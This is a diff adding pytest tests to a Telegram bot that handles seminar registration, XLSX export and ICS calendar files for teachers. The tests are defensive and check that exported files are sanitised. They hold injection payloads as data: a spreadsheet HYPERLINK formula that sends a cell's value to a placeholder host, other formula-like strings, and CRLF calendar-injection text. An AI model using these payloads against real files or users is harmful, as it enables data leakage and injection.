@@ -7,6 +7,7 @@ from __future__ import annotations
 import asyncio
 import io
 from datetime import UTC, datetime
+from typing import Any
 
 import openpyxl
 from sqlalchemy import select
@@ -14,6 +15,7 @@ from sqlalchemy import select
 import bot.jobs
 from bot.callbacks import EventCD, EventStaffCD
 from storage.models import Broadcast
+from storage.repositories import Repos
 from tests.conftest import BotEnv
 from tests.fakes import TgUser
 from tests.flows import register
@@ -53,13 +55,14 @@ def got(user: TgUser, text: str) -> list:  # type: ignore[type-arg]
     return [m for m in user.messages if text in (m.text or m.caption or "")]
 
 
-async def create_seminar(staff: TgUser) -> None:
+async def create_seminar(staff: TgUser, title: str = "Формирующее оценивание на уроках математики") -> None:
+    """The wizard up to the audience screen: 30.11.2026 15:00 for 2 h, online, 2 seats."""
     await staff.send("/menu")
     await staff.click("📣 Мероприятия и рассылки")
     await staff.click("➕ Новое мероприятие")
     await staff.click("🎓 Семинар")
     await staff.click("региональный уровень")
-    await staff.send("Формирующее оценивание на уроках математики")
+    await staff.send(title)
     await staff.send("Практический семинар для учителей математики: приёмы, примеры, разбор уроков.")
     await staff.send("30.11.2026 15:00")
     await staff.click("2 ч")
@@ -298,3 +301,242 @@ async def test_an_event_registration_becomes_a_step_of_my_route(env: BotEnv) -> 
     assert step.source == "event" and step.title == "Формирующее оценивание на уроках математики"
     assert step.form == "training" and step.link == "https://webinar.example.org/room-15"
     assert "🧭 Добавить в мой ИОМ" not in teacher.buttons()
+
+
+async def published_seminar(env: BotEnv, staff: TgUser, teachers: list[TgUser]) -> int:
+    """The seminar of `create_seminar`, published to everyone, and its id."""
+    await create_seminar(staff)
+    await staff.click("👁 Посмотреть, как увидят педагоги")
+    await staff.click("🚀 Опубликовать сейчас")
+    await settle(env)
+    async with env.repos() as repos:
+        return (await repos.events.authored(None))[0].id
+
+
+HOSTILE = '=HYPERLINK("http://x"&A2,"a")'
+
+
+async def test_the_event_export_keeps_formula_like_and_control_text_as_plain_text(env: BotEnv) -> None:
+    from sqlalchemy import update
+
+    from storage.models import Event, Municipality, School, User
+
+    staff = await staff_user(env)
+    anna = env.user(4701)
+    await register(anna, name="Математикова Анна")
+    event_id = await published_seminar(env, staff, [anna])
+    await anna.click("✅ Записаться", message=got(anna, "Формирующее оценивание")[0])
+    env.clock.now = datetime(2026, 11, 30, 16, 0, tzinfo=UTC)
+    await bot.jobs.event_reminders()
+    await settle(env)
+    await anna.click("★★★★★")
+    await anna.send(HOSTILE + "\x01 спасибо")
+    assert "Спасибо за отзыв" in anna.last_message.text
+    # Free text that reaches the file from elsewhere: an imported name, school, municipality; a title.
+    async with env.repos() as repos:
+        user = await repos.users.by_tg_id(4701)
+        assert user is not None
+        await repos.session.execute(update(User).where(User.id == user.id).values(full_name="+SUM(1;2)\x02"))
+        await repos.session.execute(
+            update(School).where(School.id == user.school_id).values(short_name="-2+3\x03", name="-2+3")
+        )
+        await repos.session.execute(
+            update(Municipality).where(Municipality.id == user.municipality_id).values(name="@cmd\x04")
+        )
+        await repos.session.execute(update(Event).where(Event.id == event_id).values(title="\t=1+1\x05"))
+        await repos.commit()
+
+    await staff.click_data(EventStaffCD(action="xlsx", e=event_id).pack())
+    document = staff.last_message
+    assert document.file_name == f"event-{event_id}.xlsx"
+    book = openpyxl.load_workbook(io.BytesIO(document.document))
+    texts = {}
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if isinstance(cell.value, str):
+                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
+                    texts[cell.value] = cell
+    for expected in (HOSTILE + " спасибо", "+SUM(1;2)", "-2+3", "@cmd", "\t=1+1"):
+        assert expected in texts, (expected, sorted(texts))
+        assert texts[expected].quotePrefix
+
+
+async def test_a_place_or_link_with_line_breaks_is_refused_and_the_calendar_never_fails(env: BotEnv) -> None:
+    from icalendar import Calendar
+    from sqlalchemy import update
+
+    from storage.models import Event
+
+    staff = await staff_user(env)
+    anna = env.user(4711)
+    await register(anna, name="Математикова Анна")
+    await staff.send("/menu")
+    await staff.click("📣 Мероприятия и рассылки")
+    await staff.click("➕ Новое мероприятие")
+    await staff.click("🎓 Семинар")
+    await staff.click("региональный уровень")
+    await staff.send("Формирующее оценивание на уроках математики")
+    await staff.click("Пропустить")
+    await staff.send("30.11.2026 15:00")
+    await staff.click("2 ч")
+    # The wizard's place step: a line break or a control character is refused; the step stays.
+    await staff.send("Гимназия № 15\nкабинет 21")
+    assert "одной строкой" in staff.last_message.text
+    await staff.send("https://webinar.example.org/room\x0115")
+    assert "одной строкой" in staff.last_message.text
+    await staff.send("https://webinar.example.org/room-15")
+    assert "До какого момента можно записаться" in staff.last_message.text
+    await staff.click("За сутки до начала")
+    await staff.send("2")
+    await staff.click("Пропустить")
+    await staff.click("👁 Посмотреть, как увидят педагоги")
+    await staff.click("🚀 Опубликовать сейчас")
+    await settle(env)
+    async with env.repos() as repos:
+        event_id = (await repos.events.authored(None))[0].id
+    # Editing the place later: the same rule.
+    await staff.click_data(EventStaffCD(action="edit_field", e=event_id, v="place").pack())
+    await staff.send("https://webinar.example.org/new\nBEGIN:VEVENT")
+    assert "одной строкой" in staff.last_message.text
+    async with env.repos() as repos:
+        stored = await repos.events.event(event_id)
+        assert stored is not None and stored.link == "https://webinar.example.org/room-15"
+    await staff.send("Актовый зал гимназии")
+    assert any("Сохранено" in (m.text or "") for m in staff.replies)
+
+    # Rows written before the rule: the calendar file is still made, and safely.
+    async with env.repos() as repos:
+        await repos.session.execute(
+            update(Event)
+            .where(Event.id == event_id)
+            .values(
+                title="Семинар\x02 по математике",
+                description="Строка\x00 один\nСтрока два",
+                place="Каб.\x01 21\r\nэтаж 2",
+                link="https://webinar.example.org/r\r\nBEGIN:VEVENT\r\nSUMMARY:x",
+            )
+        )
+        await repos.commit()
+    await anna.click_data(EventCD(action="reg", e=event_id).pack())
+    ics = anna.last_message
+    assert ics.file_name == f"event-{event_id}.ics", anna.last_message.text
+    assert not any(byte < 0x20 and byte not in b"\r\n" for byte in ics.document)
+    calendar = Calendar.from_ical(ics.document)
+    (entry,) = calendar.walk("VEVENT")
+    assert str(entry["summary"]) == "Семинар по математике"
+    assert str(entry["location"]) == "Каб. 21 этаж 2"
+    assert "url" not in entry  # not a valid link any more: it stays in the description as text
+    assert ics.document.split(b"\r\n").count(b"BEGIN:VEVENT") == 1
+
+
+async def test_two_people_taking_the_last_seat_at_once_one_goes_to_the_waiting_list(env_all: BotEnv) -> None:
+    from tests.fakes import feed_deliver
+
+    env = env_all
+    staff = await staff_user(env)
+    teachers = [env.user(4721 + i) for i in range(4)]
+    for i, teacher in enumerate(teachers):
+        await register(teacher, name=f"Математикова Анна {'АБВГ'[i]}")
+    event_id = await published_seminar(env, staff, teachers)  # 2 seats
+    await teachers[0].click("✅ Записаться", message=got(teachers[0], "Формирующее оценивание")[0])
+    assert env.app is not None
+    # The three others tap at the same moment, each update in its own session.
+    racers = [TgUser(env.fake, feed_deliver(env.app.dp, env.app.bot), t.id) for t in teachers[1:]]
+    await asyncio.gather(
+        *(
+            racer.click_data(EventCD(action="reg", e=event_id).pack(), message=got(t, "Формирующее")[0])
+            for racer, t in zip(racers, teachers[1:], strict=True)
+        )
+    )
+    async with env.repos() as repos:
+        rows = await repos.events.registrations(event_id, ("registered", "waitlist"))
+    statuses = sorted(r.status for r, _u in rows)
+    assert statuses == ["registered", "registered", "waitlist", "waitlist"]
+
+
+async def test_a_rating_before_the_end_is_refused_and_a_rating_never_marks_attendance(env: BotEnv) -> None:
+    staff = await staff_user(env)
+    anna = env.user(4731)
+    await register(anna, name="Математикова Анна")
+    event_id = await published_seminar(env, staff, [anna])
+    await anna.click("✅ Записаться", message=got(anna, "Формирующее оценивание")[0])
+    async with env.repos() as repos:
+        user = await repos.users.by_tg_id(4731)
+        assert user is not None
+        row = await repos.events.registration(event_id, user.id)
+        assert row is not None
+        row_id = row.id
+
+    async def stored() -> tuple[int | None, bool | None]:
+        async with env.repos() as repos:
+            current = await repos.events.registration_by_id(row_id)
+            assert current is not None
+            return current.rating, current.attended
+
+    # A week before, and during the event: a forged rating and an attendance mark are refused.
+    for moment in (env.clock.now, datetime(2026, 11, 30, 13, 0, tzinfo=UTC)):
+        env.clock.now = moment
+        await anna.click_data(EventCD(action="rate", e=event_id, p=5).pack())
+        assert "после окончания" in last_answer(env)
+        await staff.click_data(EventStaffCD(action="attend", e=event_id, v=str(row_id)).pack())
+        assert "после окончания" in last_answer(env)
+        assert await stored() == (None, None)
+    # Before the end the list shows who registered, without marks to tap.
+    await staff.click_data(EventStaffCD(action="people", e=event_id).pack())
+    assert "после окончания" in staff.last_message.text
+    assert "▫️ Математикова Анна" not in staff.buttons()
+
+    # After the end (17:00 in Moscow): the rating is kept, attendance is the staff's to mark.
+    env.clock.now = datetime(2026, 11, 30, 14, 5, tzinfo=UTC)
+    await anna.click_data(EventCD(action="rate", e=event_id, p=4).pack())
+    await anna.click("Без комментария")
+    assert await stored() == (4, None)
+    await staff.click_data(EventStaffCD(action="people", e=event_id).pack())
+    await staff.click("▫️ Математикова Анна")
+    assert await stored() == (4, True)
+
+
+async def test_the_last_seat_waits_for_a_registration_still_in_flight(env_all: BotEnv) -> None:
+    """Another process is between taking the last seat and committing: a second registration
+    waits for it and then finds the seat taken (on PostgreSQL the event's row lock, on SQLite the
+    single writer) — it is never counted from a stale snapshot."""
+    from bot.services import events as service
+
+    env = env_all
+    staff = await staff_user(env)
+    teachers = [env.user(4741 + i) for i in range(3)]
+    for i, teacher in enumerate(teachers):
+        await register(teacher, name=f"Математикова Анна {'АБВ'[i]}")
+    event_id = await published_seminar(env, staff, teachers)  # 2 seats
+    await teachers[0].click("✅ Записаться", message=got(teachers[0], "Формирующее оценивание")[0])
+
+    async def in_session(tg_id: int) -> tuple[Any, Any, Any]:
+        assert env.app is not None
+        session = env.app.sessionmaker()
+        repos = Repos(session)
+        user = await repos.users.by_tg_id(tg_id)
+        event = await repos.events.event(event_id)
+        return session, repos, (event, user)
+
+    first, first_repos, (event_a, user_a) = await in_session(4742)
+    second, second_repos, (event_b, user_b) = await in_session(4743)
+    try:
+        taken = await service.register(first_repos, event_a, user_a, env.clock())
+        assert taken.status == "registered"
+
+        async def register_second() -> str:
+            result = await service.register(second_repos, event_b, user_b, env.clock())
+            await second_repos.commit()
+            return result.status
+
+        racer = asyncio.create_task(register_second())
+        await asyncio.sleep(0.5)  # the second registration is under way meanwhile
+        await first_repos.commit()
+        assert await asyncio.wait_for(racer, 20) == "waitlist"
+    finally:
+        await first.close()
+        await second.close()
+    async with env.repos() as repos:
+        rows = await repos.events.registrations(event_id, ("registered", "waitlist"))
+    assert sorted(r.status for r, _u in rows) == ["registered", "registered", "waitlist"]
